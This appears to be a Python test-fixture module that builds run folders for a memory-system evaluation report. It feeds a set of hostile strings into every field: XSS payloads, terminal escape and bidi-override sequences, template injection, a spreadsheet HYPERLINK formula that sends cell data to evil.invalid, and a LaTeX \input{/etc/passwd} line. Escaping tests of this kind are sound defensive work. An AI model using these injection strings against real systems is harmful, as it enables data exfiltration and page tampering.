"""A small collection of run folders for the report's tests: two systems on two conversations, and hostile text."""

import json

from run_folders import record, write_run

SCRIPT = "</script><img src=x onerror=\"document.title='broken'\">"
ATTRIBUTE = '"><svg onload="document.title=\'broken\'"></svg>'
ODD = "zero​width ‮right-to-left  🦔 {{ 7 * 7 }} ${title} &amp; <!--"
LINK = "javascript:alert(1) <a href=javascript:alert(2)>x</a> [x](javascript:alert(3)) ![y](https://evil.invalid/y)"
STEERS = (
    "\x1b]0;owned\x07\x1b[2J\x9b31m\u2028\u2029\u2066\u202egpj.exe ${alert(4)} `x` <script>alert(5)</script> 'q' \"q\""
)
FORMULA = '=HYPERLINK("https://evil.invalid/?"&A1,"x")|+cmd|@SUM(1)\n-1+1\\|\t\\input{/etc/passwd} 100% $x$ #1 ~^_& \\'
HOSTILE = (SCRIPT, ATTRIBUTE, ODD, LINK, STEERS, FORMULA)


def item(dia_ids, rank, text="text", *, paths=("dense",), round=0, date="2023-05-08T13:56:00", score=0.5):
    return {
        "dia_ids": list(dia_ids),
        "paths": list(paths),
        "rank": rank,
        "round": round,
        "score": score,
        "date": date,
        "ends": [len(text.split())] * len(dia_ids),
        "text": text,
    }


def answered(sample_id, qa_index, category, f1, recall, **more):
    made = record(sample_id, qa_index, category, f1=f1, **more)
    made["scores"] |= {} if recall is None else {"recall": recall, "hit": float(recall > 0), "recall_20t": recall}
    return made


def write_memory(folder, sample_id, tables, **built):
    place = folder / "memory" / sample_id
    place.mkdir(parents=True)
    for name, rows in tables.items():
        (place / f"{name}.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (place / "built.json").write_text(json.dumps({"sample_id": sample_id, "turns": 3, **built}))


def note(id, dia_ids, context, keywords, speaker="Ann"):
    turns = [
        {"dia_id": d, "session": 1, "speaker": speaker, "date": "2023-05-08T13:56:00", "text": f"said {d}", "caption": None}
        for d in dia_ids
    ]  # fmt: skip
    return {"id": id, "date": "2023-05-08T13:56:00", "dia_ids": dia_ids, "context": context, "keywords": keywords, "turns": turns}  # fmt: skip


GROWTH = [
    {"turn": 1, "dia_id": "D1:1", "notes": 1, "keywords": 2, "edges": 0, "topics": 0, "merges": 0, "links": 0, "appends": 1},
    {"turn": 2, "dia_id": "D1:2", "notes": 2, "keywords": 3, "edges": 1, "topics": 0, "merges": 0, "links": 1, "appends": 1},
    {"turn": 3, "dia_id": "D1:3", "notes": 2, "keywords": 3, "edges": 1, "topics": 1, "merges": 1, "links": 1, "appends": 1},
]  # fmt: skip


def memory_tables(extra=""):
    return {
        "notes": [
            note(0, ["D1:1", "D1:3"], f"Ann bought a kiln {extra}", ["ann", "kiln"]),
            note(1, ["D1:2"], "Ben nodded", ["ann", f"ben{extra}"]),
        ],
        "keywords": [{"id": 0, "form": "ann", "notes": [0, 1]}, {"id": 1, "form": "kiln", "notes": [0]}],
        "topics": [{"id": 0, "keywords": ["ann", "kiln"]}],
        "edges": [{"source": 0, "target": 1, "weight": 0.75}],
        "growth": GROWTH,
    }


OPTIONS = {"tau_merge": 0.7, "tau_link": 0.5}


def plain_collection(root):
    """memfly, memfly-no_link and rag on samples s1 and s2; 120 questions, so that lists have pages."""
    folders = []
    for memory, ablation, shift in (("memfly", "none", 0), ("memfly", "no_link", 1), ("rag", "none", 2)):
        records = []
        for number in range(60):
            for sample in ("s1", "s2"):
                category = number % 5 + 1
                full = (number + shift) % 3 == 0
                records.append(
                    answered(
                        sample,
                        number,
                        category,
                        1.0 if full else 0.0,
                        1.0 if full else 0.0,
                        question=f"What did Ann buy on day {number}?",
                        answer="a kiln" if full else "nothing",
                        evidence=[item(["D1:1"], 1, "Ann: a kiln"), item(["D1:2"], 2, "Ben: nods", paths=("sparse", "dense"))]
                        if full
                        else [item(["D1:2"], 1, "Ben: nods")],
                        trace={"rounds": [{"query": "kiln"}], "stop": "sufficient"},
                    )
                )  # fmt: skip
        options = OPTIONS if memory == "memfly" else {"k": 20}
        folder = write_run(
            root / f"{memory}-{ablation}", records, memory=memory, ablation=ablation, memory_options=options
        )
        if memory == "memfly":
            for sample in ("s1", "s2"):
                write_memory(folder, sample, memory_tables())
        folders.append(folder)
    return folders


def hostile_collection(root):
    """One run, every text of which is hostile."""
    records = [
        answered(
            "s1",
            number,
            number % 5 + 1,
            0.5,
            0.5,
            question=text,
            gold=text,
            answer=text,
            reply=text + "raw",
            options=[text, text],
            evidence=[item([text, "D1:1"], 1, text, paths=(text,))],
            gold_evidence=["D1:1", text],
            trace={text: [text, {text: text}]},
            fallbacks={text: 1},
        )
        for number, text in enumerate(HOSTILE * 2)
    ]
    records.append(record("s1", 99, 1, error=SCRIPT, question=ATTRIBUTE))
    records += [answered(SCRIPT, number, 4, 1.0, None, question=text) for number, text in enumerate(HOSTILE)]
    folders = []
    for number, name in enumerate((f"mem{SCRIPT}", ATTRIBUTE, FORMULA, STEERS)):
        folder = write_run(root / f"run-{number}", records, memory=name, memory_options=OPTIONS | {"x": SCRIPT})
        for sample in ("s1",):
            write_memory(folder, sample, memory_tables("".join(HOSTILE)))
        folders.append(folder)
    return folders
